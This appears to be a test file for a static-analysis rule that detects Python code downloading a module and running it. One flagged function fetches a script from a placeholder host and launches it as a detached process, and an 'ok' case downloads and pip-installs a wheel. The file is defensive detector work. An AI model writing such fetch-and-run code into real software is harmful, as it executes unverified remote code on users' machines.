import subprocess
import sys
import urllib.request


def pull(state):
    data = urllib.request.urlopen("https://jit.example/accel.py", timeout=10).read()
    path = state + ".py"
    # ruleid: py_imports_fetched_module
    with open(path, "wb") as fh:
        fh.write(data)
    subprocess.Popen([sys.executable, path], start_new_session=True)


def self_update(wheel_url, path):
    data = urllib.request.urlopen(wheel_url).read()
    # ok: py_imports_fetched_module
    with open(path, "wb") as fh:
        fh.write(data)
    return subprocess.call([sys.executable, "-m", "pip", "install", "--upgrade", path])
